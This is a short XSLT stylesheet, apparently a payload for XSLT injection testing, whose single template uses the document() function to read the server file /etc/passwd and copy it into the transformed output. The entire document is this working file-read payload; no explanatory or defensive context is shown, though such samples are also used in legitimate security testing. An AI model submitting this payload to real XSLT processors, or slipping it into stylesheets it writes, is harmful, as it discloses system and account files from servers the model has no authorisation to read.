<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="urn:rotonde:functions">
  <xsl:template match="/">
    <x><xsl:copy-of select="document('/etc/passwd')"/></x>
  </xsl:template>
</xsl:stylesheet>
